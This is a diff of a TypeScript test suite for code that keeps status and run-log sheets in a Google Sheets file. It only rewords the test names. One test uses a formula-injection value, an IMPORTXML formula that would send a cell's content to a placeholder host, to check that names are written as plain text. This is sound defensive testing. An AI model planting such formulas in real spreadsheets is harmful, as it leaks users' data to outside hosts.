@@ -26,8 +26,8 @@ function kept(order: Partial<LogsOrder> = ORDER) {
   return { sheet, clock, write, rows, column };
 }
 
-describe('the books of a file', () => {
-  it('are two sheets of their own, with a line above the headers that says which', () => {
+describe('the logs of a file', () => {
+  it('are two sheets, each with a line above the headers that describes it', () => {
     const { sheet, column } = kept();
     expect(sheet.sheets.map(({ title }) => title)).toEqual(['Sheet1', STATUS, LOG]);
     expect(sheet.shown(STATUS)[0]![0]).toBe('Refresh status · times in Europe/Berlin');
@@ -40,7 +40,7 @@ describe('the books of a file', () => {
     expect(sheet.tab(STATUS).frozenRowCount).toBe(2);
   });
 
-  it('change no cell when they are written again, in the line above the table either, for an hour', () => {
+  it('change no cell when they are written again within an hour, not even in the line above the table', () => {
     const { sheet, clock, write } = kept();
     const before = sheet.snapshot();
     for (let nth = 0; nth < 10; nth++) {
@@ -51,14 +51,14 @@ describe('the books of a file', () => {
     expect(sheet.snapshot()).toEqual(before);
   });
 
-  it('an equal writing reads the file once, and each sheet once', () => {
+  it('read the file once and each sheet once if nothing has changed', () => {
     const { sheet, write } = kept();
     sheet.reads.length = 0;
     write(ORDER);
     expect(sheet.reads).toHaveLength(3);
   });
 
-  it('only what differs is written', () => {
+  it('are written only where they differ', () => {
     const { sheet, write } = kept();
     write({ status: [withRows('r1', 121), ORDER.status[1]!], newRuns: [] });
     expect(sheet.batches).toHaveLength(3);
@@ -66,7 +66,7 @@ describe('the books of a file', () => {
     expect(numbers).toHaveLength(1);
   });
 
-  it('a renamed and moved sheet is still theirs, and a deleted one is made again', () => {
+  it('use a sheet that was renamed and moved, and make a deleted sheet again', () => {
     const { sheet, write, column } = kept();
     sheet.tab(STATUS).title = 'How it stands';
     sheet.sheets.reverse();
@@ -80,7 +80,7 @@ describe('the books of a file', () => {
     expect(sheet.shown(LOG)[1]![0]).toBe('Started');
   });
 
-  it('a tab of the user that is called the same stays his', () => {
+  it('leave a tab of the user with the same title alone', () => {
     const sheet = new SheetModel();
     sheet.addTab(LOG, 7);
     sheet.type(LOG, 0, 0, 'Marathon');
@@ -89,7 +89,7 @@ describe('the books of a file', () => {
     expect(sheet.shown('Run log 2')[2]![LOG_ID]).toBe('run1');
   });
 
-  it("the user's columns stay with their rows: beside the table, and between its columns", () => {
+  it("keep the user's columns with their rows, next to the table and between its columns", () => {
     const { sheet, write } = kept();
     sheet.type(LOG, 3, 16, 'asked support');
     sheet.insert(LOG, 'COLUMNS', 4);
@@ -102,7 +102,7 @@ describe('the books of a file', () => {
     expect([status[4]![0], status[4]![15]]).toEqual(['Retention', 'ask Bo']);
   });
 
-  it("rows of the user's in the table's columns are not taken away", () => {
+  it('keep rows of the user in the columns of the table', () => {
     const { sheet, write, rows } = kept();
     sheet.type(STATUS, 4, 0, 'Reports of Bo: see the other file');
     sheet.type(LOG, 4, 0, 'Until here checked by Bo');
@@ -114,7 +114,7 @@ describe('the books of a file', () => {
     expect(sheet.batches).toHaveLength(batches);
   });
 
-  it("a line of totals below the table stays a formula of the user's", () => {
+  it('keep a formula of the user below the table', () => {
     const { sheet, write, rows } = kept();
     sheet.type(STATUS, 4, 0, 'All');
     sheet.type(STATUS, 4, 11, '=SUM(L3:L4)');
@@ -123,7 +123,7 @@ describe('the books of a file', () => {
     expect(rows(STATUS)[2]![11]).toBe(241);
   });
 
-  it('a sorted sheet stays sorted, and new rows go below', () => {
+  it('keep a sorted sheet sorted, with new rows below', () => {
     const { sheet, write, column } = kept();
     for (const title of [STATUS, LOG]) {
       const { rows } = sheet.tab(title);
@@ -134,14 +134,14 @@ describe('the books of a file', () => {
     expect(column(STATUS, 14)).toEqual(['r2', 'r1', 'r3']);
   });
 
-  it('a log of 500 runs takes a 501st, and lets the oldest go', () => {
+  it('contain 500 runs: the oldest is removed when another is added', () => {
     const { write, column } = kept({ newRuns: Array.from({ length: 500 }, (_, nth) => loggedRun(nth + 2)) });
     write({ newRuns: [loggedRun(1)] });
     const runs = column(LOG, LOG_ID);
     expect([runs.length, runs[0], runs[499]]).toEqual([500, 'run1', 'run500']);
   });
 
-  it('names are texts, whatever they look like', () => {
+  it('contain names as texts, even if they look like formulas', () => {
     const name = '=IMPORTXML("https://x.test/"&A1,"//a")';
     const { sheet, column } = kept({
       status: [savedReport('r1', { name }), savedReport('__proto__', { name: '+1' })],
@@ -154,7 +154,7 @@ describe('the books of a file', () => {
     expect(written).toContain(JSON.stringify({ stringValue: name }));
   });
 
-  it('one sheet that cannot be written is said, and the other one is written', () => {
+  it('are written for one sheet if the other cannot be written, and a sentence says which', () => {
     const { sheet, write, column } = kept();
     sheet.type(LOG, 1, 3, 'My report');
     expect(write({ status: [savedReport('r9')], newRuns: [loggedRun(0)] })).toEqual({
@@ -171,7 +171,7 @@ describe('the books of a file', () => {
     expect(problems).toEqual([expect.stringContaining('Sheet “Refresh status” could not be updated')]);
   });
 
-  it('what Google refuses is said with the name of the sheet', () => {
+  it('name the sheet that Google refuses to change', () => {
     const sheet = new SheetModel();
     sheet.beforeAndAfter = (batch) => {
       if (batch === 0) throw new Error('You are trying to edit a protected cell or object.');
@@ -184,7 +184,7 @@ describe('the books of a file', () => {
     expect(sheet.sheets.map(({ title }) => title)).toEqual(['Sheet1', LOG]);
   });
 
-  it('nothing is written while another holds the lock', () => {
+  it('are not written while another execution has the lock', () => {
     const sheet = new SheetModel();
     const order = { ...ORDER };
     expect(booksOf(sheet, new FakeClock(NOW), () => false)(order)).toEqual({
@@ -195,7 +195,7 @@ describe('the books of a file', () => {
     expect(sheet.batches).toEqual([]);
   });
 
-  it('killed before or after any write, the next writing makes it good', () => {
+  it('are complete after the next update if Google ended an execution before or after any write', () => {
     const whole = kept().sheet;
     const values = (sheet: SheetModel) => [STATUS, LOG].map((title) => sheet.shown(title));
     for (const [batch, done] of [0, 1].flatMap((nth) =>
@@ -219,7 +219,7 @@ describe('the books of a file', () => {
 
 class Killed extends Error {}
 
-describe('the status sheet, when no code runs any more', () => {
+describe('the status sheet when no code runs any more', () => {
   function opened(status: LogsOrder['status']) {
     const sheets = new EmulatedSheets();
     let now = NOW;
@@ -234,7 +234,7 @@ describe('the status sheet, when no code runs any more', () => {
     };
   }
 
-  it('says by itself for how many days nothing was checked', () => {
+  it('shows for how many days no hourly check has run', () => {
     const { saysAfter } = opened([savedReport('r1'), savedReport('r2', { lastChecked: NOW - 30 * HOUR })]);
     const said = [0, 23, 25, 46, 71].map(saysAfter);
     const words = (days: number) =>
@@ -242,12 +242,12 @@ describe('the status sheet, when no code runs any more', () => {
     expect(said).toEqual(['', '', words(1), words(2), words(3)]);
   });
 
-  it('says nothing where no report refreshes itself', () => {
+  it('shows nothing if no report is scheduled', () => {
     expect(opened([savedReport('r1', { nextRun: null })]).saysAfter(900)).toBe('');
     expect(opened([]).saysAfter(900)).toBe('');
   });
 
-  it('sees rows that came in above the first, and stays as the user has left it', () => {
+  it('includes rows that were inserted above the first, and stays as the user has changed it', () => {
     const { sheets, saysAfter } = opened([savedReport('r1')]);
     const later = { lastChecked: NOW + 70 * HOUR };
     booksOf(sheets)({ status: [savedReport('r0', later), savedReport('r1')] });
